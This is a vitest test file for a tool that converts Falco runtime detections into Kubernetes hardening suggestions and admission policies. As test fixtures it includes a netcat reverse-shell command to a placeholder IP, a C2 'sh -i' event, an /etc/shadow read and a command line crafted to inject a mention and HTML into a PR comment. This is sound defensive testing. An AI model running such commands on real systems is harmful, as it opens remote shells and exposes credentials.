import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse as parseYaml, parseAllDocuments } from 'yaml';
import type { Finding } from '@klaxon/findings';
import { parserFor, type ReportContext } from '@klaxon/sources';
import {
  accumulate,
  applyOverrides,
  buildSuggestion,
  feedbackConfigSchema,
  loadShippedRules,
  observe,
  parseRuleFile,
  renderSuggestionsMarkdown,
  ruleTable,
  subjectOf,
  suggestionFinding,
  suggestionOf,
  triggeredRules,
  type Suggestion,
  type SuggestionRule,
} from './index';

const falcoParser = parserFor('falco')!;
const fixtures = resolve(__dirname, '../../../test/fixtures/falco');
const falco = (name: string, context: Record<string, unknown> = { cluster: 'prod-eu-1' }): Finding[] =>
  falcoParser.parse(readFileSync(resolve(fixtures, name), 'utf8'), {
    eventId: `evt_${name}`,
    receivedAt: '2024-06-13T09:00:00.000Z',
    integration: 'webhook:falco',
    context: context as ReportContext,
  }).findings;

/** A Falco event as Falco's json_output writes it, for detections no fixture file covers. */
function falcoEvent(rule: string, tags: string[], fields: Record<string, unknown>): Finding {
  const event = {
    hostname: 'ip-10-20-3-17',
    output: `12:00:00.000000000: Notice ${rule} (container_id=3b2f1c0e9d8a k8s_ns=prod-shop k8s_pod_name=checkout-7d9c5b6f4-x2k8p)`,
    priority: 'Notice',
    rule,
    source: 'syscall',
    tags,
    time: '2024-06-12T12:00:00.000000000Z',
    output_fields: {
      'container.id': '3b2f1c0e9d8a',
      'container.image.repository': 'harbor.example.com/shop/checkout',
      'container.image.tag': '1.4.2',
      'container.name': 'checkout',
      'k8s.ns.name': 'prod-shop',
      'k8s.pod.name': 'checkout-7d9c5b6f4-x2k8p',
      ...fields,
    },
  };
  return falcoParser.parse(JSON.stringify(event), {
    eventId: 'evt_inline',
    receivedAt: event.time,
    integration: 'webhook:falco',
    context: { cluster: 'prod-eu-1' } as ReportContext,
  }).findings[0];
}

const table = ruleTable();
const config = feedbackConfigSchema.parse({});

/** What the feedback worker does for one subject, in memory: trigger, observe, accumulate, build. */
function suggest(findings: Finding[], options = config): Suggestion[] {
  const groups = new Map<string, { rule: SuggestionRule; finding: Finding; observations: ReturnType<typeof observe>[] }>();
  for (const f of findings) {
    for (const { rule, detection } of triggeredRules(table, f)) {
      const key = rule.id;
      const group = groups.get(key) ?? { rule, finding: f, observations: [] };
      group.observations.push(observe(f, detection));
      groups.set(key, group);
    }
  }
  return [...groups.values()].map((g) =>
    buildSuggestion({ rule: g.rule, subject: subjectOf(g.finding), evidence: accumulate(undefined, g.observations) }, options),
  );
}

const byRule = (list: Suggestion[], id: string) => {
  const s = list.find((x) => x.rule.id === id);
  if (!s) throw new Error(`no suggestion ${id} among ${list.map((x) => x.rule.id).join(', ')}`);
  return s;
};

describe('the shipped rule table', () => {
  it('loads from YAML and every entry names detections and something to change', () => {
    const rules = loadShippedRules();
    expect(rules.map((r) => r.id)).toEqual(
      expect.arrayContaining([
        'read-only-root-filesystem',
        'remove-package-manager',
        'remove-shells-and-block-exec',
        'drop-privileges',
        'restrict-egress',
        'image-and-deploy-checks',
      ]),
    );
    for (const rule of rules) {
      expect(rule.detect.length).toBeGreaterThan(0);
      const c = rule.changes;
      expect(!!(c.securityContext || c.dockerfile.length || c.rbac || c.networkPolicy || c.ci.length)).toBe(true);
    }
  });

  it.each([
    ['suggestions:\n  - id: x\n    title: t\n    severity: urgent\n    why: w\n    detect: [{ rule: r }]\n', 'bad.yaml: suggestions[0].severity'],
    ['suggestions:\n  - id: x\n    title: t\n    severity: low\n    why: w\n    detect: [{}]\n', 'bad.yaml: suggestions[0].detect[0]: needs at least one of'],
    [
      'suggestions:\n  - id: x\n    title: t\n    severity: low\n    why: w\n    detect: [{ match: ["rule ~ x"] }]\n',
      'bad.yaml: suggestions[0].detect[0].match[0]',
    ],
    [
      'suggestions:\n  - id: x\n    title: t\n    severity: low\n    why: w\n    detect: [{ rule: r }]\n    policies: { kyverno: nope }\n',
      'bad.yaml: suggestions[0].policies.kyverno',
    ],
    ['suggestions: [\n', 'bad.yaml: not valid YAML'],
  ])('rejects a broken rules file naming the path (%#)', (text, message) => {
    expect(() => parseRuleFile(text, 'bad.yaml')).toThrow(message);
  });

  it('takes overrides from config: disable, change a field, add a rule', () => {
    const overrides = feedbackConfigSchema.parse({
      rules: [
        { id: 'restrict-egress', disabled: true },
        {
          id: 'read-only-root-filesystem',
          severity: 'high',
          changes: { securityContext: { readOnlyRootFilesystem: true }, emptyDirs: ['/tmp', '/var/cache/nginx'] },
        },
        {
          id: 'no-netcat',
          title: 'Remove netcat',
          severity: 'low',
          why: 'nc is a reverse-shell tool',
          detect: [{ ruleMatches: '.*netcat.*' }],
          changes: { dockerfile: ['Do not install netcat'] },
        },
      ],
    }).rules;
    const merged = applyOverrides(loadShippedRules(), overrides);
    expect(merged.find((r) => r.id === 'restrict-egress')).toBeUndefined();
    const ro = merged.find((r) => r.id === 'read-only-root-filesystem')!;
    expect(ro.severity).toBe('high');
    expect(ro.changes.emptyDirs).toEqual(['/tmp', '/var/cache/nginx']);
    expect(ro.detect.length).toBeGreaterThan(1);
    const nc = falcoEvent('Netcat Remote Code Execution in Container', ['network', 'process'], { 'proc.cmdline': 'nc -e /bin/sh 1.2.3.4 4444' });
    expect(triggeredRules(merged, nc).map((t) => t.rule.id)).toContain('no-netcat');

    const incomplete = feedbackConfigSchema.parse({ rules: [{ id: 'brand-new', title: 'x' }] }).rules;
    expect(() => applyOverrides(loadShippedRules(), incomplete)).toThrow(
      'feedback.rules[0] ("brand-new") is not a shipped rule, so it needs severity, why, detect',
    );
    expect(feedbackConfigSchema.safeParse({ rules: [{ id: 'x', detect: [{ ruleMatches: '(' }] }] }).success).toBe(false);
  });
});

describe('Falco detections on prod-shop/checkout become suggestions', () => {
  const findings = falco('checkout-hardening.jsonl');
  const suggestions = suggest(findings);

  it('maps "Write below binary dir" and a package manager to a read-only root filesystem and a leaner image', () => {
    expect(suggestions.map((s) => s.rule.id).sort()).toEqual(['read-only-root-filesystem', 'remove-package-manager']);
    const ro = byRule(suggestions, 'read-only-root-filesystem');
    expect(ro.workload).toMatchObject({ cluster: 'prod-eu-1', namespace: 'prod-shop', kind: 'Deployment', name: 'checkout' });
    expect(ro.image).toMatchObject({ registry: 'harbor.example.com', repository: 'shop/checkout', tag: '1.4.2' });
    expect(ro.evidence).toMatchObject({ count: 3, firstSeen: '2024-06-12T16:04:07.123456789Z', lastSeen: '2024-06-12T16:05:41.002003004Z' });
    expect(ro.evidence.detections).toEqual([
      expect.objectContaining({
        rule: 'Write below binary dir',
        tool: 'falco',
        count: 2,
        samples: ['cp /tmp/curl /usr/bin/curl', 'cp /tmp/.x /usr/local/bin/.x'],
      }),
      expect.objectContaining({ rule: 'Launch Package Management Process in Container', count: 1, samples: ['apt-get install -y curl'] }),
    ]);
    const pm = byRule(suggestions, 'remove-package-manager');
    expect(pm.changes.dockerfile.join('\n')).toMatch(/multi-stage/);
    expect(pm.evidence.count).toBe(1);
  });

  it('writes a securityContext patch for the Deployment with an emptyDir for /tmp', () => {
    const patch = parseYaml(byRule(suggestions, 'read-only-root-filesystem').changes.securityContextPatch!);
    expect(patch).toMatchObject({ apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'checkout', namespace: 'prod-shop' } });
    const pod = patch.spec.template.spec;
    expect(pod.containers[0]).toEqual({
      name: 'checkout',
      securityContext: { readOnlyRootFilesystem: true },
      volumeMounts: [{ name: 'tmp', mountPath: '/tmp' }],
    });
    expect(pod.volumes).toEqual([{ name: 'tmp', emptyDir: {} }]);
  });

  it('writes a Kyverno ClusterPolicy in Audit that requires it on the Deployment and its pods', () => {
    const policy = parseYaml(byRule(suggestions, 'read-only-root-filesystem').policies.kyverno!);
    expect(policy.apiVersion).toBe('kyverno.io/v1');
    expect(policy.kind).toBe('ClusterPolicy');
    expect(policy.metadata.name).toMatch(/^[a-z0-9]([-a-z0-9]*[a-z0-9])?$/);
    expect(policy.metadata.name.length).toBeLessThanOrEqual(63);
    expect(policy.spec.validationFailureAction).toBe('Audit');
    expect(policy.spec.rules.length).toBe(2);
    for (const rule of policy.spec.rules) {
      expect(rule.name.length).toBeLessThanOrEqual(63);
      expect(rule.match.any[0].resources.namespaces).toEqual(['prod-shop']);
      expect(rule.validate.message).toEqual(expect.any(String));
    }
    const [deployment, pods] = policy.spec.rules;
    expect(deployment.match.any[0].resources).toMatchObject({ kinds: ['Deployment'], names: ['checkout'] });
    expect(deployment.validate.pattern.spec.template.spec.containers).toEqual([{ securityContext: { readOnlyRootFilesystem: true } }]);
    expect(pods.match.any[0].resources).toMatchObject({ kinds: ['Pod'], names: ['checkout-*'] });
    expect(pods.validate.pattern.spec.containers).toEqual([{ securityContext: { readOnlyRootFilesystem: true } }]);
  });

  it('writes a Gatekeeper ConstraintTemplate and a dry-run Constraint of its kind', () => {
    const { template, constraint } = byRule(suggestions, 'read-only-root-filesystem').policies.gatekeeper!;
    const t = parseYaml(template);
    expect(t).toMatchObject({ apiVersion: 'templates.gatekeeper.sh/v1', kind: 'ConstraintTemplate' });
    expect(t.metadata.name).toBe(t.spec.crd.spec.names.kind.toLowerCase());
    expect(t.spec.targets[0].target).toBe('admission.k8s.gatekeeper.sh');
    expect(t.spec.targets[0].rego).toMatch(/^package k8sklaxonsecuritycontext\n/);
    expect(t.spec.targets[0].rego).toContain('violation[{"msg": msg}]');
    const c = parseYaml(constraint);
    expect(c.apiVersion).toBe('constraints.gatekeeper.sh/v1beta1');
    expect(c.kind).toBe(t.spec.crd.spec.names.kind);
    expect(c.spec.enforcementAction).toBe('dryrun');
    expect(c.spec.match.kinds).toEqual([
      { apiGroups: [''], kinds: ['Pod'] },
      { apiGroups: ['apps'], kinds: ['Deployment'] },
    ]);
    expect(c.spec.match.namespaces).toEqual(['prod-shop']);
    expect(c.spec.parameters.fields).toEqual([{ path: 'readOnlyRootFilesystem', value: true }]);
  });

  it('enforces when the config says so', () => {
    const enforced = suggest(findings, feedbackConfigSchema.parse({ enforce: true }));
    expect(parseYaml(byRule(enforced, 'read-only-root-filesystem').policies.kyverno!).spec.validationFailureAction).toBe('Enforce');
    expect(parseYaml(byRule(enforced, 'read-only-root-filesystem').policies.gatekeeper!.constraint).spec.enforcementAction).toBe('deny');
  });

  it('travels as a finding of kind suggestion, one per (workload, suggestion), carrying the suggestion', () => {
    const ro = byRule(suggestions, 'read-only-root-filesystem');
    const finding = suggestionFinding({ ...ro, code: { repo: 'acme/checkout', pullRequest: 42 } }, 'evt_1');
    expect(finding).toMatchObject({
      kind: 'suggestion',
      fingerprint: ro.id,
      severity: 'medium',
      rule: { id: 'read-only-root-filesystem' },
      code: { repo: 'acme/checkout', pullRequest: 42 },
    });
    expect(finding.title).toBe('Make the root filesystem read-only (Deployment prod-shop/checkout)');
    expect(suggestionOf(finding)?.policies.kyverno).toBe(ro.policies.kyverno);
    // The same workload seen again (another pod, more events) is the same suggestion.
    const again = suggest([...findings, ...falco('checkout-hardening-more.jsonl')]);
    expect(byRule(again, 'read-only-root-filesystem').id).toBe(ro.id);
    expect(byRule(again, 'read-only-root-filesystem').evidence.count).toBe(4);
  });

  it('renders a Markdown section with the evidence and the policies as YAML blocks', () => {
    const md = renderSuggestionsMarkdown(suggestions.map((s) => suggestionFinding(s, 'evt_1')));
    expect(md).toContain('## Hardening suggestions from runtime (2)');
    expect(md).toContain('| Write below binary dir | falco | 2 |');
    const blocks = [...md.matchAll(/```yaml\n([\s\S]*?)```/g)].map((m) => m[1]);
    expect(blocks.map((b) => parseAllDocuments(b).map((d) => d.toJS().kind))).toContainEqual(['ClusterPolicy']);
  });
});

describe('other detections', () => {
  it('a terminal shell → a Kyverno policy denying exec and break-glass RBAC for pods/exec', () => {
    const shell = falcoEvent('Terminal shell in container', ['container', 'shell', 'mitre_execution', 'T1059'], { 'proc.cmdline': 'bash', 'proc.tty': 34816 });
    const s = byRule(suggest([shell]), 'remove-shells-and-block-exec');
    const policy = parseYaml(s.policies.kyverno!);
    expect(policy.spec.background).toBe(false);
    expect(policy.spec.rules[0].match.any[0].resources).toEqual({ kinds: ['Pod/exec', 'Pod/attach'], namespaces: ['prod-shop'], names: ['checkout-*'] });
    expect(policy.spec.rules[0].preconditions.all[0]).toMatchObject({ operator: 'Equals', value: 'CONNECT' });
    expect(policy.spec.rules[0].validate).toHaveProperty('deny');
    const rbac = parseAllDocuments(s.changes.rbac!).map((d) => d.toJS());
    expect(rbac.map((d) => d.kind)).toEqual(['Role', 'RoleBinding']);
    expect(rbac[0].rules[0].resources).toContain('pods/exec');
    expect(rbac[1].roleRef).toEqual({ apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: rbac[0].metadata.name });
    expect(s.changes.dockerfile.join(' ')).toMatch(/distroless/);
  });

  it('a command line with newlines stays inside its evidence row, so it cannot mention anyone in the PR comment', () => {
    // What an intruder's shell puts in proc.cmdline is theirs to choose, line breaks included.
    const cmdline = "sh -c 'x\n\n@acme/security-team approved <img src=x>'";
    const shell = falcoEvent('Terminal shell in container', ['container', 'shell'], { 'proc.cmdline': cmdline });
    const s = byRule(suggest([shell]), 'remove-shells-and-block-exec');
    const md = renderSuggestionsMarkdown([suggestionFinding(s, 'evt_1')]);
    const row = md.split('\n').find((line) => line.startsWith('| Terminal shell in container |'))!;
    expect(row).toContain('@acme/security-team');
    expect(md.split('\n').filter((line) => line.includes('@acme'))).toEqual([row]);
  });

  it('a setuid → runAsNonRoot, no privilege escalation, drop ALL, seccomp RuntimeDefault', () => {
    const setuid = falcoEvent('Non sudo setuid', ['host', 'container', 'users', 'mitre_privilege_escalation', 'T1548.001'], { 'proc.cmdline': 'su -' });
    const s = byRule(suggest([setuid]), 'drop-privileges');
    const patch = parseYaml(s.changes.securityContextPatch!);
    expect(patch.spec.template.spec.containers[0].securityContext).toEqual({
      runAsNonRoot: true,
      allowPrivilegeEscalation: false,
      capabilities: { drop: ['ALL'] },
      seccompProfile: { type: 'RuntimeDefault' },
    });
    const policy = parseYaml(s.policies.kyverno!);
    const drop = policy.spec.rules.find((r: { validate: { foreach?: unknown } }) => r.validate.foreach);
    expect(drop.validate.foreach[0]).toMatchObject({ list: 'request.object.spec.template.spec.containers[]' });
    expect(drop.validate.foreach[0].deny.conditions.all[0]).toMatchObject({ key: 'ALL', operator: 'AnyNotIn' });
    const constraint = parseYaml(s.policies.gatekeeper!.constraint);
    expect(constraint.spec.parameters.dropCapabilities).toEqual(['ALL']);
    expect(constraint.spec.parameters.fields).toContainEqual({ path: 'seccompProfile.type', value: 'RuntimeDefault' });
  });

  it('unexpected egress → a NetworkPolicy allowing what was seen plus DNS, marked for review', () => {
    const s = byRule(suggest(falco('checkout-egress.jsonl')), 'restrict-egress');
    const np = parseYaml(s.changes.networkPolicy!);
    expect(np).toMatchObject({ apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', metadata: { namespace: 'prod-shop' } });
    expect(np.metadata.annotations['klaxon.io/review']).toMatch(/^required: built from egress observed between 2024-06-12T17:00:00/);
    expect(np.spec.policyTypes).toEqual(['Egress']);
    expect(np.spec.egress).toEqual([
      expect.objectContaining({
        ports: [
          { protocol: 'UDP', port: 53 },
          { protocol: 'TCP', port: 53 },
        ],
      }),
      { to: [{ ipBlock: { cidr: '10.20.7.9/32' } }], ports: [{ protocol: 'TCP', port: 5432 }] },
      { to: [{ ipBlock: { cidr: '172.16.4.20/32' } }], ports: [{ protocol: 'TCP', port: 443 }] },
    ]);
    expect(s.evidence.detections[0]).toMatchObject({ rule: 'Unexpected outbound connection destination', count: 3 });
  });

  it('egress seen by a C2 detection is denied, not allowed, and named in the review note', () => {
    const c2 = falcoEvent('Outbound Connection to C2 Servers', ['network', 'mitre_command_and_control', 'TA0011'], {
      'fd.sip': '203.0.113.66',
      'fd.sport': 4444,
      'fd.l4proto': 'tcp',
      'proc.cmdline': 'sh -i',
    });
    const s = byRule(suggest([...falco('checkout-egress.jsonl'), c2]), 'restrict-egress');
    const np = parseYaml(s.changes.networkPolicy!);
    expect(JSON.stringify(np.spec.egress)).not.toContain('203.0.113.66');
    expect(np.metadata.annotations['klaxon.io/review']).toContain('left out as not legitimate: 203.0.113.66:4444/TCP');
  });

  it('a sensitive-file read → CI checks and a trusted-registry policy for the image registry', () => {
    const read = falcoEvent('Read sensitive file untrusted', ['maturity_stable', 'host', 'container', 'filesystem', 'mitre_credential_access', 'T1555'], {
      'fd.name': '/etc/shadow',
    });
    const s = byRule(suggest([read]), 'image-and-deploy-checks');
    expect(s.changes.ci.join(' ')).toMatch(/trivy image/);
    const policy = parseYaml(s.policies.kyverno!);
    expect(policy.spec.rules[0].validate.pattern.spec.template.spec.containers).toEqual([{ image: 'harbor.example.com/*' }]);
    expect(s.evidence.detections[0].samples).toEqual(['/etc/shadow']);
  });

  it('without a workload, the suggestion is about the image repository and its policy selects pods by image', () => {
    const [f] = falco('checkout-hardening.jsonl');
    const noWorkload: Finding = { ...f, workload: undefined };
    const s = byRule(suggest([noWorkload]), 'read-only-root-filesystem');
    expect(s.workload).toBeUndefined();
    const policy = parseYaml(s.policies.kyverno!);
    expect(policy.spec.rules[0].preconditions.any[0]).toMatchObject({ operator: 'AnyIn', value: ['harbor.example.com/shop/checkout*'] });
    expect(parseYaml(s.changes.securityContextPatch!).containers[0].securityContext).toEqual({ readOnlyRootFilesystem: true });
  });

  it('a vulnerability or an unrelated runtime rule triggers nothing', () => {
    const unrelated = falcoEvent('Clear Log Activities', ['filesystem', 'mitre_defense_evasion'], {});
    expect(triggeredRules(table, unrelated)).toEqual([]);
  });
});

describe('evidence accumulation', () => {
  it('counts and first/last seen do not depend on arrival order, and samples stay bounded', () => {
    const findings = [...falco('checkout-hardening.jsonl'), ...falco('checkout-hardening-more.jsonl')];
    const rule = table.find((r) => r.id === 'read-only-root-filesystem')!;
    const obs = findings.flatMap((f) => triggeredRules([rule], f).map((t) => observe(f, t.detection)));
    const forward = accumulate(undefined, obs);
    const backward = accumulate(accumulate(undefined, obs.slice(2).reverse()), obs.slice(0, 2));
    // Samples are examples: which arrived first does not matter, the set does.
    const normal = (e: typeof forward) => ({ ...e, detections: e.detections.map((d) => ({ ...d, samples: [...d.samples].sort() })) });
    expect(normal(backward)).toEqual(normal(forward));
    const many = Array.from({ length: 20 }, (_, i) => ({ ...obs[0], sample: `cp /tmp/x${i} /usr/bin/x${i}` }));
    expect(accumulate(undefined, many).detections[0].samples).toHaveLength(5);
  });
});
